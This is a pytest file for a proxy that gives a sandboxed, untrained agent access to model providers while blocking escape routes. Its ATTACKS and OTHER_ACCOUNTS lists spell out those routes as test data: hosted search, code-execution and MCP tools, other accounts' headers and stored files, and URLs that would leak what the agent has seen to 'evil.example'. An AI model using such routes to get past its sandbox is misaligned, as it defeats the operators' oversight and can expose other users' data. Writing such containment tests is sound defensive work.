"""What a sandboxed agent that is not trained may ask of a provider, with a key that it does not have.

Each attack is a real request through the address of its sandbox; the provider keeps the bytes that reach it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from scripted import in_loop

import agl
import agl.compat as al
from agl.errors import ConfigError, RolloutError
from agl.trainer.http.server import HttpServer
from agl_harnesses.front import Onward, front_app
from agl_harnesses.mini import Mini

pytestmark = pytest.mark.slow

KEY = "sk-kept-outside-0123456789"
OPENAI = "/openai/api.openai.com/v1"
CHAT, COMPLETIONS, RESPONSES = f"{OPENAI}/chat/completions", f"{OPENAI}/completions", f"{OPENAI}/responses"
MESSAGES = "/anthropic/api.anthropic.com/v1/messages"
GENERATE = "/google/generativelanguage.googleapis.com/v1beta/models/g:generateContent"
HI: dict[str, Any] = {"model": "m", "messages": [{"role": "user", "content": "hi"}]}
ASKED: dict[str, Any] = {"model": "m", "input": "hi"}
SAID: dict[str, Any] = {"contents": [{"role": "user", "parts": [{"text": "hi"}]}]}
PICTURE = "data:image/png;base64,aGk="


@dataclass
class Provider:
    """A provider that listens.

    Attributes:
        url: where. heads, bodies: of the requests that it got.
    """

    url: str = ""
    heads: list[str] = field(default_factory=list)
    bodies: list[bytes] = field(default_factory=list)


@contextlib.asynccontextmanager
async def provider() -> AsyncIterator[Provider]:
    """Keeps what is sent as it comes: no library stands between the attack and what is asserted."""
    at = Provider()

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1")
                length = re.search(r"(?i)content-length: (\d+)", head)
                at.heads.append(head)
                at.bodies.append(await reader.readexactly(int(length[1]) if length else 0))
                writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}")
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    at.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield at
    finally:
        server.close()


@dataclass
class Sandboxed:
    """What a sandboxed agent reaches.

    Attributes:
        front: what is behind its address. provider: what is behind that. http: the agent's client.
    """

    front: Onward
    provider: Provider
    http: httpx.AsyncClient

    async def send(self, target: str, body: Any = None, method: str = "POST", **headers: str) -> tuple[int, list[str]]:
        """(the status of the answer, the names of what was refused for it).

        Args:
            body: bytes, or a value that is sent as JSON. headers: with underscores for dashes.
        """
        before = self.front.refused.copy()
        content = body if isinstance(body, bytes | None) else json.dumps(body).encode()
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        answered = await self.http.request(
            method, target, content=content, headers={"content-type": "application/json"} | named
        )
        return answered.status_code, [*(self.front.refused - before)]


@contextlib.asynccontextmanager
async def sandboxed(*allow: str) -> AsyncIterator[Sandboxed]:
    """The address of an untrained agent's sandbox."""
    async with provider() as at:
        keys = {
            "openai": [("authorization", f"Bearer {KEY}"), ("openai-organization", "org-of-the-user")],
            "anthropic": [("x-api-key", KEY)],
            "google": [("x-goog-api-key", KEY)],
        }
        front = Onward(Mini(), keys, allow)
        front.prefixes = {
            "openai": OPENAI,
            "anthropic": "/anthropic/api.anthropic.com",
            "google": "/google/generativelanguage.googleapis.com",
        }
        front.addresses = lambda _: {"openai": f"{at.url}/v1", "anthropic": at.url, "google": at.url}
        server = HttpServer(front_app(front), error=RolloutError)
        url = await server.start()
        async with httpx.AsyncClient(base_url=url, trust_env=False, timeout=20) as http:
            yield Sandboxed(front, at, http)
        await server.stop()
        await front.close()


# -- headers ----------------------------------------------------------------------------------------------------------
OTHER_ACCOUNTS = {
    "openai-organization": "org-other",
    "openai-project": "proj-other",
    "x-goog-user-project": "project-other",
    "x-goog-request-params": "project=other",
    "anthropic-organization-id": "other",
    "anthropic-workspace-id": "other",
    "chatgpt-account-id": "other",
    "cookie": "session=other",
    "x-forwarded-for": "10.0.0.1",
    "x-http-method-override": "DELETE",
    "openai-beta": "assistants=v2",
    "x-amz-security-token": "other",
    "helicone-target-url": "http://evil.example",
}


@in_loop
async def test_no_header_chooses_another_account() -> None:
    """OpenAI-Organization, x-goog-user-project and cookies reached the provider beside the user's key."""
    async with sandboxed() as at:
        for target, body in ((CHAT, HI), (MESSAGES, HI), (GENERATE, SAID)):
            for name, value in OTHER_ACCOUNTS.items():
                status, refused = await at.send(target, body, **{name: value})
                assert status == 200
                assert refused == [f"header {name}"]
                head = at.provider.heads.pop().lower()
                assert value.lower() not in head, (target, name)
                assert head.count(KEY) == 1
                assert ("openai-organization: org-of-the-user" in head) == (target == CHAT)


@in_loop
async def test_the_headers_of_clients_pass() -> None:
    kept = {"user-agent": "agent/1", "anthropic-version": "2023-06-01", "x-stainless-lang": "js", "x-app": "cli",
            "accept": "text/event-stream", "traceparent": "00-" + "a" * 32 + "-" + "b" * 16 + "-01"}  # fmt: skip
    async with sandboxed() as at:
        assert await at.send(MESSAGES, HI, **kept) == (200, [])
        for name, value in kept.items():
            assert f"{name}: {value}" in at.provider.heads[0]


@in_loop
async def test_betas_that_run_things_are_left_out() -> None:
    betas = "interleaved-thinking-2025-05-14,files-api-2025-04-14,mcp-client-2025-04-04,claude-code-20250219"
    left_out = ["anthropic-beta files-api-2025-04-14", "anthropic-beta mcp-client-2025-04-04"]
    async with sandboxed() as at:
        assert await at.send(MESSAGES, HI, anthropic_beta=betas) == (200, left_out)
        assert "anthropic-beta: interleaved-thinking-2025-05-14,claude-code-20250219\r\n" in at.provider.heads[0]
        assert await at.send(MESSAGES, HI, anthropic_beta="files-api-2025-04-14") == (200, left_out[:1])
        assert "anthropic-beta" not in at.provider.heads[1]
    async with sandboxed("anthropic-beta files-api-2025-04-14", "header openai-project") as at:
        assert await at.send(MESSAGES, HI, anthropic_beta=betas, openai_project="p") == (200, left_out[1:])
        assert "files-api" in at.provider.heads[0]
        assert "openai-project: p" in at.provider.heads[0]


# -- queries ----------------------------------------------------------------------------------------------------------
@in_loop
async def test_a_query_has_what_calls_of_models_have() -> None:
    async with sandboxed() as at:
        for target, body, query in (
            (MESSAGES, HI, "beta=true"), (GENERATE, SAID, "alt=sse"), (CHAT, HI, "api-version=2025-01-01-preview"),
        ):  # fmt: skip
            assert await at.send(f"{target}?{query}", body) == (200, [])
            assert f"?{query} HTTP/1.1" in at.provider.heads.pop()
        for key in ("key=sk-mine", "k%65y=sk-mine", "key=a&key=b"):
            assert await at.send(f"{GENERATE}?alt=sse&{key}", SAID) == (200, [])
            assert "?alt=sse HTTP/1.1" in at.provider.heads.pop()
        for query, name in (
            ("$httpMethod=DELETE", "$httpMethod"), ("fields=*", "fields"), ("quotaUser=x", "quotaUser"),
            ("access_token=x", "access_token"), ("$userProject=x", "$userProject"), ("%61lt=sse", "%61lt"),
            ("alt=%73se", "alt"), ("alt=sse;x", "alt"), ("uploadType=media", "uploadType"), ("a" * 500, "a" * 194),
        ):  # fmt: skip
            status, refused = await at.send(f"{GENERATE}?{query}", SAID)
            assert (status, refused) == (403, [f"query {name}"]), query
        assert at.provider.heads == []


# -- bodies -----------------------------------------------------------------------------------------------------------
def chat(part: Any, **message: Any) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": [part], **message}]}


def asked(item: Any) -> dict[str, Any]:
    return {"model": "m", "input": [item]}


def answered_with(part: Any) -> dict[str, Any]:
    return asked({"type": "function_call_output", "call_id": "c", "output": [part]})


def said(part: Any) -> dict[str, Any]:
    return {"contents": [{"role": "user", "parts": [part]}]}


def nested(part: Any) -> dict[str, Any]:
    return chat({"type": "tool_result", "tool_use_id": "t", "content": [part]})


URL, ELSEWHERE = "a URL that the provider fetches", "https://evil.example/?what-it-has-seen"
ATTACKS: list[tuple[str, Any, str]] = [
    # Tools that the provider runs.
    (CHAT, HI | {"web_search_options": {}}, "web_search_options"),
    (CHAT, HI | {"model": "gpt-4o-search-preview"}, "a model that searches the web"),
    (CHAT, HI | {"model": "openai/gpt-4o:online"}, "a model that searches the web"),
    (CHAT, HI | {"plugins": [{"id": "web"}]}, "plugins"),
    (CHAT, HI | {"tools": [{"type": "web_search"}]}, "web_search"),
    (RESPONSES, ASKED | {"tools": [{"type": "web_search_preview"}]}, "web_search_preview"),
    (RESPONSES, ASKED | {"tools": [{"type": "web_search_preview_2025_03_11"}]}, "web_search_preview_2025_03_11"),
    (RESPONSES, ASKED | {"tools": [{"type": "file_search", "vector_store_ids": ["v"]}]}, "file_search"),
    (RESPONSES, ASKED | {"tools": [{"type": "code_interpreter", "container": {"type": "auto"}}]}, "code_interpreter"),
    (RESPONSES, ASKED | {"tools": [{"type": "mcp", "server_url": ELSEWHERE, "server_label": "x"}]}, "mcp"),
    (RESPONSES, ASKED | {"tools": [{"type": "image_generation"}]}, "image_generation"),
    (RESPONSES, ASKED | {"tools": [{"type": "shell", "environment": {"type": "container_auto"}}]}, "a container"),
    (RESPONSES, ASKED | {"tools": [{"type": "namespace", "tools": [{"type": "mcp"}]}]}, "mcp"),
    (RESPONSES, ASKED | {"tools": [{"type": "function", "name": "f"}, {"type": "web_search"}]}, "web_search"),
    (RESPONSES, ASKED | {"tools": [{"name": "no type"}]}, "a tool without a type"),
    (MESSAGES, HI | {"tools": [{"type": "web_search_20250305", "name": "web_search"}]}, "web_search"),
    (MESSAGES, HI | {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}, "web_fetch"),
    (MESSAGES, HI | {"tools": [{"type": "code_execution_20250825", "name": "c"}]}, "code_execution"),
    (MESSAGES, HI | {"tools": [{"type": "mcp_toolset", "mcp_server_name": "m"}]}, "mcp_toolset"),
    (MESSAGES, HI | {"mcp_servers": [{"type": "url", "url": ELSEWHERE, "name": "m"}]}, "mcp_servers"),
    (MESSAGES, HI | {"container": {"skills": []}}, "container"),
    (f"{MESSAGES}/count_tokens", HI | {"mcp_servers": []}, "mcp_servers"),
    (GENERATE, SAID | {"tools": [{"googleSearch": {}}]}, "googlesearch"),
    (GENERATE, SAID | {"tools": {"google_search": {}}}, "googlesearch"),
    (GENERATE, SAID | {"tools": [{"functionDeclarations": [], "code_execution": {}}]}, "codeexecution"),
    (GENERATE, SAID | {"tools": [{"urlContext": {}}]}, "urlcontext"),
    (GENERATE.replace("generateContent", "countTokens"),
     {"generate_content_request": SAID | {"tools": [{"googleSearch": {}}]}}, "googlesearch"),
    # What others have stored.
    (RESPONSES, ASKED | {"previous_response_id": "resp_others"}, "previous_response_id"),
    (RESPONSES, ASKED | {"conversation": "conv_others"}, "conversation"),
    (RESPONSES, ASKED | {"prompt": {"id": "pmpt_others"}}, "prompt"),
    (RESPONSES, ASKED | {"background": True}, "background"),
    (f"{RESPONSES}/compact", ASKED | {"previous_response_id": "resp_others"}, "previous_response_id"),
    (f"{RESPONSES}/input_tokens", ASKED | {"conversation": "conv_others"}, "conversation"),
    (RESPONSES, asked({"type": "item_reference", "id": "msg_others"}), "item_reference"),
    (RESPONSES, asked({"id": "rs_others", "type": "reasoning", "summary": []}), "reasoning that is stored"),
    (RESPONSES, asked({"role": "user", "content": [{"type": "input_file", "file_id": "file-o"}]}), "file_id"),
    (RESPONSES, answered_with({"type": "input_image", "file_id": "file-o"}), "file_id"),
    (CHAT, chat({"type": "file", "file": {"file_id": "file-o"}}), "file_id"),
    (CHAT, chat({"type": "text", "text": "x"}, audio={"id": "audio_others"}), "messages.audio"),
    (MESSAGES, chat({"type": "document", "source": {"type": "file", "file_id": "file-o"}}), "document of a file"),
    (MESSAGES, chat({"type": "container_upload", "file_id": "file-o"}), "container_upload"),
    (MESSAGES, nested({"type": "image", "source": {"type": "file", "file_id": "file-o"}}), "image of a file"),
    (GENERATE, SAID | {"cachedContent": "cachedContents/others"}, "cachedcontent"),
    (GENERATE, SAID | {"cached_content": "cachedContents/others"}, "cachedcontent"),
    (GENERATE, said({"fileData": {"fileUri": "files/others"}}), "filedata"),
    (GENERATE, said({"functionResponse": {"name": "f", "parts": [{"file_data": {"file_uri": "o"}}]}}), "filedata"),
    (GENERATE, SAID | {"systemInstruction": {"parts": [{"fileData": {"fileUri": "files/others"}}]}}, "filedata"),
    # What the provider would contact for it, and so tell what it has seen.
    (CHAT, chat({"type": "image_url", "image_url": {"url": ELSEWHERE}}), URL),
    (CHAT, chat({"type": "image_url", "image_url": ELSEWHERE}), URL),
    (RESPONSES, asked({"role": "user", "content": [{"type": "input_image", "image_url": ELSEWHERE}]}), URL),
    (RESPONSES, asked({"role": "user", "content": [{"type": "input_file", "file_url": ELSEWHERE}]}), "file_url"),
    (RESPONSES, asked({"type": "computer_call_output", "call_id": "c",
                       "output": {"type": "computer_screenshot", "image_url": ELSEWHERE}}), URL),
    (MESSAGES, chat({"type": "image", "source": {"type": "url", "url": ELSEWHERE}}), "image of a url"),
    # Programs of the server's.
    (COMPLETIONS, {"model": "m", "prompt": "hi", "chat_template": "{% for _ in x %}"}, "chat_template"),
]  # fmt: skip
EARNEST: list[tuple[str, Any]] = [
    (CHAT, HI | {"tools": [{"type": "function", "function": {"name": "f", "parameters": {}}}], "tool_choice": "auto",
                 "stream": True, "stream_options": {"include_usage": True}, "temperature": 0.5}),
    (CHAT, {"model": "m", "messages": [
        {"role": "assistant", "content": None, "tool_calls": [{"id": "c", "type": "function", "function":
         {"name": "f", "arguments": '{"type": "web_search", "file_id": "x"}'}}]},
        {"role": "tool", "tool_call_id": "c", "content": '{"url": "https://example.org"}'}]}),
    (CHAT, chat({"type": "image_url", "image_url": {"url": PICTURE}})),
    (COMPLETIONS, {"model": "m", "prompt": "hi", "max_tokens": 3}),
    (RESPONSES, ASKED | {"store": False, "include": ["reasoning.encrypted_content"], "instructions": "x",
                         "prompt_cache_key": "k", "reasoning": {"effort": "low"}, "text": {"verbosity": "low"},
                         "tools": [{"type": "function", "name": "f"}, {"type": "custom", "name": "patch"},
                                   {"type": "local_shell"}, {"type": "shell"}]}),
    (RESPONSES, {"model": "m", "input": [
        {"role": "user", "content": "hi"},
        {"type": "message", "id": "msg_1", "role": "assistant", "content": [{"type": "output_text", "text": "x"}]},
        {"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "x"},
        {"type": "function_call", "name": "f", "call_id": "c", "arguments": '{"file_id": "x"}'},
        {"type": "function_call_output", "call_id": "c", "output": "x"},
        {"type": "function_call_output", "call_id": "d", "output": [{"type": "input_image", "image_url": PICTURE}]}]}),
    (MESSAGES, HI | {"max_tokens": 5, "system": [{"type": "text", "text": "x", "cache_control": {"type": "ephemeral"}}],
                     "thinking": {"type": "enabled", "budget_tokens": 1024}, "metadata": {"user_id": "u"},
                     "tools": [{"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"},
                               {"type": "text_editor_20250728", "name": "e"}]}),
    (MESSAGES, {"model": "m", "max_tokens": 5, "messages": [
        {"role": "assistant", "content": [{"type": "thinking", "thinking": "x", "signature": "s"},
         {"type": "tool_use", "id": "t", "name": "WebFetch", "input": {"url": ELSEWHERE, "type": "file"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t", "content": [
            {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "aGk="}}]}]}]}),
    (f"{MESSAGES}/count_tokens", HI),
    (GENERATE, SAID | {"systemInstruction": {"parts": [{"text": "x"}]}, "generationConfig": {"topK": 3},
                       "tools": [{"functionDeclarations": [{"name": "f"}]}], "toolConfig": {}}),
    (GENERATE, {"contents": [
        {"role": "model", "parts": [{"functionCall": {"name": "f", "args": {"fileData": 1}}, "thoughtSignature": "s"}]},
        {"role": "user", "parts": [{"function_response": {"name": "f", "response": {"fileData": 1}}}]}]}),
]  # fmt: skip


@in_loop
async def test_a_provider_does_nothing_for_a_sandboxed_agent_but_answer() -> None:
    """Hosted tools, files' ids, MCP servers, containers and others' responses passed: only paths were looked at."""
    async with sandboxed() as at:
        for target, body, name in ATTACKS:
            status, refused = await at.send(target, body)
            assert (status, refused) == (403, [name]), (target, body)
            assert at.provider.heads == [], (target, body)
        assert await at.send(f"{RESPONSES}/resp_others", method="GET") == (403, ["a stored response"])
        assert await at.send(f"{RESPONSES}/resp_others/input_items", method="GET") == (403, ["a stored response"])
        assert at.provider.heads == []
        assert await at.send(f"{OPENAI}/models", {"delete": "all"}, method="GET") == (200, [])
        assert at.provider.bodies == [b""]


@in_loop
async def test_each_is_permitted_by_the_name_with_which_it_is_refused() -> None:
    for target, body, name in ATTACKS:
        async with sandboxed(name) as at:
            assert await at.send(target, body) == (200, []), (target, body)
            assert json.loads(at.provider.bodies[0]) == body
    async with sandboxed("a stored response") as at:
        assert await at.send(f"{RESPONSES}/resp_mine", method="GET") == (200, [])


@in_loop
async def test_what_agents_send_passes_unchanged() -> None:
    async with sandboxed() as at:
        for target, body in EARNEST:
            assert await at.send(target, body) == (200, []), (target, body)
            assert json.loads(at.provider.bodies.pop()) == body


@in_loop
async def test_what_was_looked_at_is_what_is_sent() -> None:
    """Of a key that comes twice, of text in another encoding and of what is packed, two readers read two things."""
    hosted = '"tools":[{"type":"web_search"}]'
    async with sandboxed() as at:
        twice = f'{{"model":"m","input":"\\ud83d", {hosted}, "tools":[]}}'.encode()
        assert await at.send(RESPONSES, twice) == (200, [])
        assert b"web_search" not in at.provider.bodies[0]
        assert json.loads(at.provider.bodies[0])["input"] == "\ud83d", "half a character, as tools may return"
        at.provider.heads.clear()
        for body, headers in (
            (f'{{"model":"m","input":"x",{hosted}}}'.encode("utf-16"), {}),
            (f'{{"model":"m","input":"x",{hosted}}}'.encode(), {"content_type": "text/plain"}),
            (f'{{"model":"m","input":"x",{hosted}}}'.encode(), {"content_encoding": "gzip"}),
            (b'[{"model":"m"}]', {}), (b'{"model":"m"', {}), (b"", {}),
            (b'{"model":"m","input":[["x"]]}', {}), (b'{"model":"m","tools":{"type":"web_search"}}', {}),
        ):  # fmt: skip
            assert await at.send(RESPONSES, body, **headers) == (400, []), body
        twice_named = b'{"contents":[],"cachedContent":null,"cached_content":"cachedContents/others"}'
        assert await at.send(GENERATE, twice_named) == (400, [])
        assert at.provider.heads == []


@in_loop
async def test_a_policy_gets_what_the_agent_sends_and_no_key_of_a_provider() -> None:
    async with sandboxed() as at:
        at.front.is_policy = lambda name: name == at.front.agent
        body = b'{"model":"m","input":"x",  "previous_response_id":"resp_1"}'
        assert await at.send(RESPONSES, body, x_own="kept", authorization="Bearer mine") == (200, [])
        assert at.provider.bodies == [body]
        assert KEY not in at.provider.heads[0]
        assert "mine" not in at.provider.heads[0]
        assert "x-own: kept" in at.provider.heads[0]


@in_loop
async def test_0_3s_proxy_sends_its_models_keys_for_its_own_account_alone() -> None:
    async with provider() as at:
        entry = {"model": "openai/m", "api_base": f"{at.url}/v1", "api_key": KEY}
        one = al.LLMProxy(model_list=[{"model_name": "m", "litellm_params": entry}], store=al.InMemoryLightningStore())
        await one.start()
        target = f"http://127.0.0.1:{one.server_launcher_args.port}/rollout/r/attempt/1/v1/chat/completions"
        async with httpx.AsyncClient(trust_env=False, timeout=20) as http:
            assert (await http.post(target, json=HI, headers=OTHER_ACCOUNTS)).status_code == 200
            assert (await http.post(f"{target}?access_token=x", json=HI)).status_code == 403
        await one.stop()
        [head] = at.heads
        assert head.count(KEY) == 1
        assert not [name for name, value in OTHER_ACCOUNTS.items() if f"{name}: {value}" in head.lower()]
        assert one.refused["query access_token"] == 1


def test_what_is_allowed_is_a_list() -> None:
    with pytest.raises(ConfigError, match=r"\['web_search'\]"):
        agl.harness("mini-swe-agent", task=str, files=lambda _: {}, grade=lambda *_: 1.0, allow="web_search")
